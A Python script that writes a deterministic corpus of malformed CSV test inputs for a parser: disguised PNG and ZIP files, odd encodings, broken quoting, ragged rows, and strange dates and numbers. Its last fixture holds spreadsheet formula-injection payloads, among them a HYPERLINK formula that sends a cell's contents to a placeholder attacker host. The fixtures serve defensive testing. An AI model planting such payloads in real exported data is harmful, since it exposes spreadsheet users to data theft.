#!/usr/bin/env python3
"""Writes the bad-input corpus of tests/data/bad/ (see README.md there).

Deterministic: running it again rewrites the same bytes. The two big inputs (a
1 MB field, 10,000 columns) are not written here: tests/bad_inputs.rs builds them
at test time (`big_field` and `wide` there), so the repository stays small.

    python3 tests/data/bad/make.py
"""
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def png():
    """A real 1x1 PNG image."""
    def chunk(kind, body):
        c = kind + body
        return struct.pack(">I", len(body)) + c + struct.pack(">I", zlib.crc32(c))
    raw = zlib.compress(b"\x00\xff\x00\x00")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


def zip_of(files):
    """A stored (uncompressed) ZIP archive of (name, bytes), fixed timestamps."""
    out, central = b"", b""
    for name, body in files:
        name = name.encode()
        crc = zlib.crc32(body)
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc,
                           len(body), len(body), len(name), 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                               crc, len(body), len(body), len(name), 0, 0, 0, 0, 0,
                               len(out)) + name
        out += head + name + body
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files),
                      len(central), len(out), 0)
    return out + central + end


HEADER = "user_id,time,event,revenue\n"

write("empty.csv", b"")
write("header_only.csv", HEADER)
write("png.csv", png())
write("zip.csv", zip_of([("orders.csv", b"user_id,time\nu1,2024-01-01\n")]))
write("xlsx.csv", zip_of([
    ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    ("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'),
]))
write("utf16_bom.csv", b"\xff\xfe" + "用户,时间,事件\nu1,2024-01-01,浏览\nu2,2024-01-02,购买\n".encode("utf-16-le"))
write("gbk_no_bom.csv", "用户,时间,事件,金额\n张三,2024-01-01,浏览商品,\n李四,2024-01-02,购买,99.5\n王五,2024-01-03,购买,12\n".encode("gbk"))
write("mixed_line_endings.csv",
      "user_id,time,event\r\nu1,2024-01-01,a\nu2,2024-01-02,b\ru3,2024-01-03,c\r\nu4,2024-01-04,d")
write("quoted_newlines.csv",
      'user_id,time,event,note\nu1,2024-01-01,a,"two\nlines"\nu2,2024-01-02,b,"three\r\nphysical\nlines"\n,2024-01-03,c,x\n')
write("unterminated_quote.csv",
      'user_id,time,event\nu1,2024-01-01,a\nu2,2024-01-02,"never closed\nu3,2024-01-03,c\n')
write("ragged_rows.csv",
      "user_id,time,event\nu1,2024-01-01,a\nu2,2024-01-02,b,extra\nu3,2024-01-03\nu4,2024-01-04,d\nu5,2024-01-05,e\n")
write("duplicate_and_empty_headers.csv",
      "user_id,time,event,x,x,,\nu1,2024-01-01,a,1,2,3,4\nu2,2024-01-02,b,5,6,7,8\n")
write("empty_user_column.csv",
      "user_id,time,event\n,2024-01-01,a\n,2024-01-02,b\n,2024-01-03,c\n")
write("mixed_timestamp_formats.csv",
      "user_id,time,event\nu1,2024-03-01T09:30:00Z,a\nu2,2024/03/02 10:00,b\nu3,1709460000,c\nu4,yesterday,d\n")
write("dates_out_of_range.csv",
      "user_id,time,event\nu1,1969-12-31,a\nu2,1900-01-01,b\nu3,2101-01-01,c\nu4,9999-12-31,d\nu5,2024-01-01,e\n")
write("revenue_negative_and_text.csv",
      "user_id,time,event,revenue\nu1,2024-01-01,purchase,-12.50\nu2,2024-01-02,purchase,refund\nu3,2024-01-03,purchase,19.99\nu4,2024-01-04,purchase,\n")
write("revenue_nan_infinity.csv",
      "user_id,time,event,revenue\nu1,2024-01-01,purchase,NaN\nu2,2024-01-02,purchase,Infinity\nu3,2024-01-03,purchase,-inf\nu4,2024-01-04,purchase,5\nu5,2024-01-05,purchase,7.5\nu6,2024-01-06,purchase,1e400\nu7,2024-01-07,purchase,3\nu8,2024-01-08,purchase,10\nu9,2024-01-09,purchase,2.5\n")
write("formula_injection.csv",
      'user_id,time,event,note\n=HYPERLINK("http://evil.example/?x="&A1;"click"),2024-01-01,purchase,+1\n@SUM(A1:A9),2024-01-02,-2+3,=1+1\n"\tTAB",2024-01-03,view,"\rCR"\n')
